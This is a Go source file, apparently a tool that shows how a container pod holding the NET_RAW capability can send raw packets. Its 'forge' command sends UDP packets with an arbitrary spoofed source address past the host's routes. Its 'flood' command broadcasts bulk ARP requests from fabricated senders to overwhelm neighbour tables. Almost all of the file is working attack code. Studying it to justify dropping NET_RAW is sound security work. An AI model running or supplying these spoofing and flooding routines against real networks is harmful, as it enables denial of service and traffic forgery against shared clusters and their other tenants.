// Packets that a kernel sends for no program of its own accord. They go out by a packet socket, which a
// container may open unless its capability NET_RAW is dropped.
package main

import (
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strings"

	"golang.org/x/sys/unix"
)

// device is a pod's interface.
const device = "eth0"

// forge sends one UDP packet under any address, and past this machine's routes.
func forge(args []string) error {
	flags := flag.NewFlagSet("forge", flag.ExitOnError)
	var source netip.Addr
	var to netip.AddrPort
	flags.TextVar(&source, "source", netip.Addr{}, "the packet's source address")
	flags.TextVar(&to, "to", netip.AddrPort{}, "where it goes")
	_ = flags.Parse(args)
	gateway, err := neighbour()
	if err != nil {
		return err
	}
	send, err := sender(unix.ETH_P_IP, gateway)
	if err != nil {
		return err
	}
	return send(datagram(source, to))
}

// flood sends requests for an address, each under another sender that nobody has.
func flood(args []string) error {
	flags := flag.NewFlagSet("flood", flag.ExitOnError)
	var target, first netip.Addr
	flags.TextVar(&target, "ask", netip.Addr{}, "the address that is asked for")
	flags.TextVar(&first, "senders", netip.Addr{}, "the first sender; the others follow it")
	count := flags.Int("count", 0, "how many requests")
	_ = flags.Parse(args)
	own, err := net.InterfaceByName(device)
	if err != nil {
		return err
	}
	send, err := sender(unix.ETH_P_ARP, net.HardwareAddr{255, 255, 255, 255, 255, 255})
	if err != nil {
		return err
	}
	for from := first; *count > 0; from, *count = from.Next(), *count-1 {
		if err := send(request(own.HardwareAddr, from, target)); err != nil {
			return err
		}
	}
	return nil
}

// sender sends packets of one EtherType to one hardware address.
func sender(etherType uint16, to net.HardwareAddr) (func([]byte) error, error) {
	own, err := net.InterfaceByName(device)
	if err != nil {
		return nil, err
	}
	socket, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return nil, fmt.Errorf("a packet socket: %w", err)
	}
	protocol := binary.NativeEndian.Uint16(binary.BigEndian.AppendUint16(nil, etherType))
	address := &unix.SockaddrLinklayer{Ifindex: own.Index, Protocol: protocol, Halen: uint8(len(to))}
	copy(address.Addr[:], to)
	return func(packet []byte) error { return unix.Sendto(socket, packet, 0, address) }, nil
}

// neighbour is the hardware address behind the interface: a pod has one neighbour, its gateway.
func neighbour() (net.HardwareAddr, error) {
	table, err := os.ReadFile("/proc/net/arp")
	if err != nil {
		return nil, err
	}
	for line := range strings.Lines(string(table)) {
		if fields := strings.Fields(line); len(fields) == 6 && fields[5] == device {
			return net.ParseMAC(fields[3])
		}
	}
	return nil, errors.New("there is no neighbour")
}

// datagram is an empty packet of UDP over IPv4 (RFC 791, RFC 768), without UDP's optional checksum.
func datagram(source netip.Addr, to netip.AddrPort) []byte {
	const headers, ttl = 20 + 8, 64
	packet := []byte{0x45, 0, 0, headers, 0, 0, 0, 0, ttl, unix.IPPROTO_UDP, 0, 0}
	packet = append(append(packet, source.AsSlice()...), to.Addr().AsSlice()...)
	binary.BigEndian.PutUint16(packet[10:], ^sum(packet))
	for _, half := range []uint16{to.Port(), to.Port(), 8, 0} {
		packet = binary.BigEndian.AppendUint16(packet, half)
	}
	return packet
}

// sum is the sum that IPv4's checksum is the complement of.
func sum(header []byte) uint16 {
	var total uint32
	for ; len(header) > 1; header = header[2:] {
		total += uint32(binary.BigEndian.Uint16(header))
	}
	for total > 0xffff {
		total = total>>16 + total&0xffff
	}
	return uint16(total)
}

// request is one of ARP for Ethernet and IPv4 (RFC 826).
func request(own net.HardwareAddr, from, target netip.Addr) []byte {
	packet := []byte{0, 1, 8, 0, 6, 4, 0, 1}
	packet = append(append(packet, own...), from.AsSlice()...)
	return append(append(packet, make([]byte, 6)...), target.AsSlice()...)
}
